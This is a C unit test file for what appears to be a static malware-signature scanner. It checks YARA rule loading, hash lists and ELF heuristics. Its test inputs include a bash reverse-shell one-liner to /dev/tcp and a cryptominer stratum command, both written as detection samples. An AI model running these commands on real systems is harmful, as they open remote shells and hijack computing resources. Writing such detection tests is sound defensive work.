/* SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "hash.h"
#include "macros.h"
#include "staticsig.h"

#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HITS  32
#define SCAN_MAX  (64u * 1024 * 1024)
#define KNOWN_BAD "sandtrap unit test: an object on the known-bad list\n"

/* A scratch directory removed with everything in it, one level of subdirectories deep. */
struct scratch {
	char dir[64];
};

static void scratch_make(struct scratch *s)
{
	snprintf(s->dir, sizeof(s->dir), "/tmp/test-staticsig-XXXXXX");
	assert_non_null(mkdtemp(s->dir));
}

static void scratch_write(const struct scratch *s, const char *rel, const void *buf, size_t len)
{
	char path[256], sub[256];
	char *slash;
	int fd;

	snprintf(sub, sizeof(sub), "%s/%s", s->dir, rel);
	slash = strrchr(sub, '/');
	*slash = '\0';
	mkdir(sub, 0700);

	snprintf(path, sizeof(path), "%s/%s", s->dir, rel);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, buf, len), (ssize_t)len);
	close(fd);
}

static void scratch_write_str(const struct scratch *s, const char *rel, const char *text)
{
	scratch_write(s, rel, text, strlen(text));
}

static void scratch_remove(struct scratch *s)
{
	char cmd[128];

	/* The path is ours and fixed-format: mkdtemp under /tmp, no user input. */
	snprintf(cmd, sizeof(cmd), "rm -rf -- '%s'", s->dir);
	assert_int_equal(system(cmd), 0);
}

static struct staticsig_db *load_default(void)
{
	struct staticsig_db *db = NULL;
	char err[512];

	assert_int_equal(staticsig_load(STATICSIG_RULES_DIR, NULL, &db, err, sizeof(err)), 0);
	assert_string_equal(err, "");
	return db;
}

/* Scan bytes written to a scratch file, with their real sha256. */
static int scan_bytes(const struct staticsig_db *db, const void *buf, size_t len,
                      struct staticsig_hit *hits, size_t max, size_t *ret_n)
{
	struct scratch s;
	struct file_hashes h;
	char path[128];
	int fd, r;

	scratch_make(&s);
	scratch_write(&s, "object", buf, len);
	snprintf(path, sizeof(path), "%s/object", s.dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);
	assert_int_equal(hash_fd(fd, SCAN_MAX, &h), 0);
	r = staticsig_scan(db, fd, h.sha256, SCAN_MAX, hits, max, ret_n);
	close(fd);
	scratch_remove(&s);
	return r;
}

static const struct staticsig_hit *find_hit(const struct staticsig_hit *hits, size_t n,
                                            const char *id)
{
	for (size_t i = 0; i < n; i++)
		if (strcmp(hits[i].id, id) == 0)
			return &hits[i];
	return NULL;
}

static size_t count_kind(const struct staticsig_hit *hits, size_t n, enum staticsig_kind k)
{
	size_t c = 0;

	for (size_t i = 0; i < n; i++)
		c += hits[i].kind == k;
	return c;
}

static void default_rules_load_with_a_digest(void **state)
{
	struct staticsig_db *db = load_default();
	const char *d = staticsig_digest(db);

	assert_int_equal(strlen(d), 64);
	assert_int_equal(strspn(d, "0123456789abcdef"), 64);
	staticsig_free(db);
}

static void yara_syntax_error_rejects_the_whole_set(void **state)
{
	struct staticsig_db *db = (void *)1;
	struct scratch s;
	char err[512];

	scratch_make(&s);
	scratch_write_str(&s, "yara/a_good.yar",
	                  "rule fine { strings: $a = \"x\" condition: $a }\n");
	scratch_write_str(&s, "yara/b_broken.yar",
	                  "rule broken\n{\n    condition: $missing and\n}\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), -EINVAL);
	assert_null(db);
	assert_non_null(strstr(err, "yara/b_broken.yar:"));
	/* The compiler places the error where the condition ends: line 3 or 4. */
	assert_true(strstr(err, ".yar:3: ") || strstr(err, ".yar:4: "));
	scratch_remove(&s);
}

static void bad_meta_and_duplicate_names_are_rejected(void **state)
{
	struct staticsig_db *db = NULL;
	struct scratch s;
	char err[512];

	scratch_make(&s);
	scratch_write_str(&s, "yara/sev.yar",
	                  "rule sev { meta: severity = \"extreme\" condition: false }\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "sev.yar: rule 'sev': meta severity"));

	scratch_write_str(&s, "yara/sev.yar",
	                  "rule same { meta: attack = \"T1496\" condition: false }\n");
	scratch_write_str(&s, "yara/other.yar", "rule same { condition: false }\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "rule 'same' is also defined in"));

	scratch_write_str(&s, "yara/other.yar", "include \"sev.yar\"\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "other.yar:1: "));
	assert_null(db);
	scratch_remove(&s);
}

static void miner_strings_match_with_family_and_technique(void **state)
{
	static const char obj[] = "#!/bin/sh\n./kworker -o stratum+tcp://pool.example.invalid:3333 "
	                          "-u wallet --donate-level 1\n";
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	const struct staticsig_hit *h;
	size_t n;

	assert_int_equal(scan_bytes(db, obj, strlen(obj), hits, MAX_HITS, &n), 0);
	h = find_hit(hits, n, "Linux_Miner_Stratum");
	assert_non_null(h);
	assert_int_equal(h->kind, SIG_YARA);
	assert_string_equal(h->family, "Linux.Miner.Generic");
	assert_string_equal(h->technique, "T1496.001");
	assert_int_equal(h->severity, 3);
	assert_false(h->weak);
	assert_string_equal(staticsig_kind_name(h->kind), "yara");
	staticsig_free(db);
}

static void reverse_shell_one_liner_matches(void **state)
{
	static const char obj[] = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n";
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	const struct staticsig_hit *h;
	size_t n;

	assert_int_equal(scan_bytes(db, obj, strlen(obj), hits, MAX_HITS, &n), 0);
	h = find_hit(hits, n, "Linux_Shell_Reverse_DevTcp");
	assert_non_null(h);
	assert_string_equal(h->family, "Linux.Trojan.ReverseShell");
	assert_int_equal(h->severity, 4);
	staticsig_free(db);
}

static void bad_listed_hash_is_hash_bad_with_the_name(void **state)
{
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	size_t n;

	assert_int_equal(scan_bytes(db, KNOWN_BAD, strlen(KNOWN_BAD), hits, MAX_HITS, &n), 0);
	assert_true(n >= 1);
	assert_int_equal(hits[0].kind, SIG_HASH_BAD);
	assert_string_equal(hits[0].id, "hash-bad");
	assert_string_equal(hits[0].family, "Test.Sandtrap.KnownBad");
	assert_int_equal(hits[0].severity, 4);
	assert_string_equal(staticsig_kind_name(hits[0].kind), "hash_bad");
	staticsig_free(db);
}

static void good_listed_hash_is_hash_good(void **state)
{
	static const char obj[] = "an ordinary tool\n";
	struct staticsig_db *db = NULL;
	struct staticsig_hit hits[MAX_HITS];
	struct file_hashes h;
	struct scratch s;
	char list[256], err[512];
	size_t n;

	assert_int_equal(hash_buf(obj, strlen(obj), &h), 0);
	/* Upper case on purpose: digests are compared by value, not as text. */
	for (char *p = h.sha256; *p; p++)
		*p = (char)(*p >= 'a' && *p <= 'f' ? *p - 32 : *p);
	snprintf(list, sizeof(list), "# checked by hand\n%s  example 1.0 /usr/bin/tool\n",
	         h.sha256);

	scratch_make(&s);
	mkdir(strcat(strcpy(err, s.dir), "/yara"), 0700);
	scratch_write_str(&s, "hashes/good.txt", list);
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), 0);
	scratch_remove(&s);

	assert_int_equal(scan_bytes(db, obj, strlen(obj), hits, MAX_HITS, &n), 0);
	assert_int_equal(n, 1);
	assert_int_equal(hits[0].kind, SIG_HASH_GOOD);
	assert_string_equal(hits[0].family, "example 1.0 /usr/bin/tool");
	assert_string_equal(staticsig_kind_name(hits[0].kind), "hash_good");
	staticsig_free(db);
}

static void malformed_hash_list_names_the_line(void **state)
{
	struct staticsig_db *db = NULL;
	struct scratch s;
	char err[512];

	scratch_make(&s);
	mkdir(strcat(strcpy(err, s.dir), "/yara"), 0700);
	scratch_write_str(&s, "hashes/bad.txt", "# fine\n\nnot-a-digest  Foo\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &db, err, sizeof(err)), -EBADMSG);
	assert_non_null(strstr(err, "hashes/bad.txt:3: "));
	assert_null(db);
	scratch_remove(&s);
}

static void bin_true_has_no_strong_hit(void **state)
{
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	int fd = open("/bin/true", O_RDONLY | O_CLOEXEC);
	struct file_hashes h;
	size_t n;

	assert_true(fd >= 0);
	assert_int_equal(hash_fd(fd, SCAN_MAX, &h), 0);
	assert_int_equal(staticsig_scan(db, fd, h.sha256, SCAN_MAX, hits, MAX_HITS, &n), 0);
	close(fd);
	for (size_t i = 0; i < n; i++)
		assert_true(hits[i].weak);
	assert_null(find_hit(hits, n, "elf-no-section-headers"));
	assert_null(find_hit(hits, n, "elf-entry-outside-text"));
	staticsig_free(db);
}

/* A static, stripped executable with no section headers: header, one PT_LOAD, code. */
struct tiny_elf {
	Elf64_Ehdr eh;
	Elf64_Phdr ph;
	uint8_t code[16];
};

static void tiny_elf_build(struct tiny_elf *e)
{
	memset(e, 0, sizeof(*e));
	memcpy(e->eh.e_ident, ELFMAG, SELFMAG);
	e->eh.e_ident[EI_CLASS] = ELFCLASS64;
	e->eh.e_ident[EI_DATA] = ELFDATA2LSB;
	e->eh.e_ident[EI_VERSION] = EV_CURRENT;
	e->eh.e_type = ET_EXEC;
	e->eh.e_machine = EM_X86_64;
	e->eh.e_version = EV_CURRENT;
	e->eh.e_entry = 0x400000 + offsetof(struct tiny_elf, code);
	e->eh.e_phoff = sizeof(Elf64_Ehdr);
	e->eh.e_ehsize = sizeof(Elf64_Ehdr);
	e->eh.e_phentsize = sizeof(Elf64_Phdr);
	e->eh.e_phnum = 1;
	e->ph.p_type = PT_LOAD;
	e->ph.p_flags = PF_R | PF_X;
	e->ph.p_vaddr = 0x400000;
	e->ph.p_filesz = e->ph.p_memsz = sizeof(*e);
	memset(e->code, 0x90, sizeof(e->code));
}

static void crafted_static_stripped_elf_gives_weak_facts(void **state)
{
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	const struct staticsig_hit *h;
	struct tiny_elf e;
	size_t n;

	tiny_elf_build(&e);
	assert_int_equal(scan_bytes(db, &e, sizeof(e), hits, MAX_HITS, &n), 0);
	assert_int_equal(count_kind(hits, n, SIG_ELF), 2);

	h = find_hit(hits, n, "elf-static-stripped");
	assert_non_null(h);
	assert_true(h->weak);
	assert_string_equal(h->technique, "T1027");
	assert_int_equal(h->severity, 1);
	assert_string_equal(staticsig_kind_name(h->kind), "elf");

	h = find_hit(hits, n, "elf-no-section-headers");
	assert_non_null(h);
	assert_true(h->weak);
	staticsig_free(db);
}

static void upx_magic_is_packing(void **state)
{
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	const struct staticsig_hit *h;
	struct tiny_elf e;
	size_t n;

	tiny_elf_build(&e);
	memcpy(e.code, "UPX!", 4);
	assert_int_equal(scan_bytes(db, &e, sizeof(e), hits, MAX_HITS, &n), 0);
	h = find_hit(hits, n, "elf-upx-packed");
	assert_non_null(h);
	assert_true(h->weak);
	assert_string_equal(h->technique, "T1027.002");
	staticsig_free(db);
}

static void truncated_elf_gives_no_facts(void **state)
{
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	struct tiny_elf e;
	size_t n;

	tiny_elf_build(&e);
	for (size_t cut = 0; cut < sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr); cut += 7) {
		assert_int_equal(scan_bytes(db, &e, cut, hits, MAX_HITS, &n), 0);
		assert_int_equal(count_kind(hits, n, SIG_ELF), 0);
	}

	/* Program headers claimed far past the end of the file. */
	e.eh.e_phoff = UINT64_MAX - 8;
	assert_int_equal(scan_bytes(db, &e, sizeof(e), hits, MAX_HITS, &n), 0);
	assert_int_equal(count_kind(hits, n, SIG_ELF), 0);
	staticsig_free(db);
}

static void max_bytes_bounds_what_is_scanned(void **state)
{
	static const char obj[] = "padding padding padding mining.subscribe mining.authorize\n";
	struct staticsig_db *db = load_default();
	struct staticsig_hit hits[MAX_HITS];
	struct scratch s;
	char path[128];
	size_t n;
	int fd;

	scratch_make(&s);
	scratch_write_str(&s, "object", obj);
	snprintf(path, sizeof(path), "%s/object", s.dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);

	assert_int_equal(staticsig_scan(db, fd, NULL, 24, hits, MAX_HITS, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(staticsig_scan(db, fd, NULL, SCAN_MAX, hits, MAX_HITS, &n), 0);
	assert_non_null(find_hit(hits, n, "Linux_Miner_Stratum"));
	/* Room for nothing: the caller learns that hits were dropped. */
	assert_int_equal(staticsig_scan(db, fd, NULL, SCAN_MAX, hits, 0, &n), -ENOBUFS);
	assert_int_equal(n, 0);
	close(fd);
	scratch_remove(&s);
	staticsig_free(db);
}

static void extra_yara_directory_adds_rules(void **state)
{
	static const char rule[] = "rule Local_Marker {\n"
	                           "  meta: family = \"Local.Test\" severity = \"medium\"\n"
	                           "  strings: $a = \"local-marker-7f3a\"\n"
	                           "  condition: $a\n}\n";
	static const char obj[] = "xx local-marker-7f3a xx\n";
	const char *extra[2] = {NULL, NULL};
	struct staticsig_db *db = NULL, *base = load_default();
	struct staticsig_hit hits[MAX_HITS];
	const struct staticsig_hit *h;
	struct scratch s;
	char dir[128], err[512];
	size_t n;

	scratch_make(&s);
	scratch_write_str(&s, "mine/local.yar", rule);
	scratch_write_str(&s, "mine/ignored.txt", "not a rule file {");
	snprintf(dir, sizeof(dir), "%s/mine", s.dir);
	extra[0] = dir;
	assert_int_equal(staticsig_load(STATICSIG_RULES_DIR, extra, &db, err, sizeof(err)), 0);
	scratch_remove(&s);
	assert_string_not_equal(staticsig_digest(db), staticsig_digest(base));

	assert_int_equal(scan_bytes(db, obj, strlen(obj), hits, MAX_HITS, &n), 0);
	h = find_hit(hits, n, "Local_Marker");
	assert_non_null(h);
	assert_string_equal(h->family, "Local.Test");
	assert_string_equal(h->technique, "");
	assert_int_equal(h->severity, 2);
	staticsig_free(db);
	staticsig_free(base);
}

static void digest_is_stable_and_follows_content(void **state)
{
	struct staticsig_db *a = NULL, *b = NULL, *c = NULL;
	struct scratch s;
	char err[512], first[65];

	scratch_make(&s);
	scratch_write_str(&s, "yara/r.yar", "rule r { strings: $a = \"abc\" condition: $a }\n");
	scratch_write_str(&s, "hashes/bad.txt", "# none yet\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &a, err, sizeof(err)), 0);
	assert_int_equal(staticsig_load(s.dir, NULL, &b, err, sizeof(err)), 0);
	assert_string_equal(staticsig_digest(a), staticsig_digest(b));
	snprintf(first, sizeof(first), "%s", staticsig_digest(a));

	scratch_write_str(&s, "yara/r.yar", "rule r { strings: $a = \"abd\" condition: $a }\n");
	assert_int_equal(staticsig_load(s.dir, NULL, &c, err, sizeof(err)), 0);
	assert_string_not_equal(staticsig_digest(c), first);

	staticsig_free(a);
	staticsig_free(b);
	staticsig_free(c);
	scratch_remove(&s);
}

static void expect_rule_on_file(const struct staticsig_db *db, const char *path, const char *rule)
{
	struct staticsig_hit hits[MAX_HITS];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	size_t n;

	assert_true(fd >= 0);
	assert_int_equal(staticsig_scan(db, fd, NULL, SCAN_MAX, hits, MAX_HITS, &n), 0);
	close(fd);
	if (!find_hit(hits, n, rule))
		fail_msg("rule %s does not match its fixture %s", rule, path);
}

/* Fixture files are named after the rule they must trigger (minus any extension). */
static void every_fixture_matches_its_rule(void **state)
{
	struct staticsig_db *db = load_default();
	DIR *d = opendir(STATICSIG_FIXTURES_DIR);
	struct dirent *de;
	unsigned count = 0;

	assert_non_null(d);
	while ((de = readdir(d))) {
		char path[512], rule[256];

		if (de->d_name[0] == '.')
			continue;
		snprintf(rule, sizeof(rule), "%.*s", (int)strcspn(de->d_name, "."), de->d_name);
		snprintf(path, sizeof(path), "%s/%s", STATICSIG_FIXTURES_DIR, de->d_name);
		expect_rule_on_file(db, path, rule);
		count++;
	}
	closedir(d);
	assert_true(count >= 15);

	expect_rule_on_file(db, STATICSIG_PRELOAD_FIXTURE, "Linux_Rootkit_LdPreload_Object");
	staticsig_free(db);
}

/* Every default rule has a fixture: a rule nobody has seen match is a rule that may not. */
static void every_default_rule_has_a_fixture(void **state)
{
	DIR *d = opendir(STATICSIG_RULES_DIR "/yara");
	struct dirent *de;
	unsigned rules = 0;

	assert_non_null(d);
	while ((de = readdir(d))) {
		char path[512], line[256], rule[64], fixture[512];
		FILE *f;

		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/yara/%s", STATICSIG_RULES_DIR, de->d_name);
		f = fopen(path, "re");
		assert_non_null(f);
		while (fgets(line, sizeof(line), f)) {
			if (sscanf(line, "rule %63[A-Za-z0-9_]", rule) != 1)
				continue;
			rules++;
			if (strcmp(rule, "Linux_Rootkit_LdPreload_Object") == 0)
				continue;
			snprintf(fixture, sizeof(fixture), "%s/%s", STATICSIG_FIXTURES_DIR, rule);
			if (access(fixture, F_OK) < 0 && access(strcat(fixture, ".c"), F_OK) < 0)
				fail_msg("rule %s has no fixture", rule);
		}
		fclose(f);
	}
	closedir(d);
	assert_true(rules >= 15);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(default_rules_load_with_a_digest),
	        cmocka_unit_test(yara_syntax_error_rejects_the_whole_set),
	        cmocka_unit_test(bad_meta_and_duplicate_names_are_rejected),
	        cmocka_unit_test(miner_strings_match_with_family_and_technique),
	        cmocka_unit_test(reverse_shell_one_liner_matches),
	        cmocka_unit_test(bad_listed_hash_is_hash_bad_with_the_name),
	        cmocka_unit_test(good_listed_hash_is_hash_good),
	        cmocka_unit_test(malformed_hash_list_names_the_line),
	        cmocka_unit_test(bin_true_has_no_strong_hit),
	        cmocka_unit_test(crafted_static_stripped_elf_gives_weak_facts),
	        cmocka_unit_test(upx_magic_is_packing),
	        cmocka_unit_test(truncated_elf_gives_no_facts),
	        cmocka_unit_test(max_bytes_bounds_what_is_scanned),
	        cmocka_unit_test(extra_yara_directory_adds_rules),
	        cmocka_unit_test(digest_is_stable_and_follows_content),
	        cmocka_unit_test(every_fixture_matches_its_rule),
	        cmocka_unit_test(every_default_rule_has_a_fixture),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
